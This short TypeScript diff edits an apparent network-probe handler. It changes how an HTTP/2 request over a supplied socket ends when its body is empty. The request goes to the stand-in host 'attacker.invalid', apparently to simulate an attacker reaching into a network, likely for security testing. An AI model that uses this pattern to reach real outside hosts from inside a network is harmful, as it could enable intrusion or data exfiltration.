@@ -130,7 +130,7 @@ export function insideNetwork(): Handlers<NetworkProbe> {
       return new Promise((resolve, reject) => {
         const session = http2.connect('https://attacker.invalid', { createConnection: () => socket });
         session.on('error', reject);
-        const stream = session.request({ ...headers });
+        const stream = session.request({ ...headers }, { endStream: body === '' });
         let text = '';
         stream.setTimeout(waitMs, () => stream.destroy(new Error('no answer')));
         stream.on('response', (fields) => {
@@ -146,7 +146,7 @@ export function insideNetwork(): Handlers<NetworkProbe> {
           socket.destroy();
           resolve({ text });
         });
-        stream.end(body);
+        if (body !== '') stream.end(body);
       });
     },
   };
